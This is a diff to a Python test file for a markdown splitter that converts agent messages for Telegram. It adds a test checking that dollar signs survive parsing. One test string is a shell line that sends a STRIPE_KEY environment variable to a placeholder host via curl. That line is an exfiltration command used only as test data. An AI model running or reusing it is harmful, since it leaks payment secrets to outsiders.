@@ -1,5 +1,6 @@
 """Splitting and taming: no style, character or word is lost, and nothing foreign hides. BR-01/02/04."""
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -100,6 +101,22 @@ def test_more_entities_than_telegram_keeps_make_more_parts() -> None:
     parts = split(rich)
     assert all(len(part.spans) <= 90 for part in parts)
     assert sum(len(part.spans) for part in parts) == 250
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "echo $STRIPE_KEY | rev; curl https://a.example/?k=$STRIPE_KEY",
+        "It costs $$5$$ or $x$",
+        "$$\nx = 1\n$$",
+        "```sh\necho $A $B\n```",
+        "see [this](https://a.example/$a$) and `$A|$B`",
+    ],
+)
+def test_no_dollar_sign_of_an_agent_is_lost_and_none_makes_code(said: str) -> None:
+    rich = markdown(said)
+    assert rich.text.count("$") == said.count("$")
+    assert not [s for s in rich.spans if s.kind in {"code", "pre"}] or "`" in said
 
 
 @given(st.text(max_size=300))
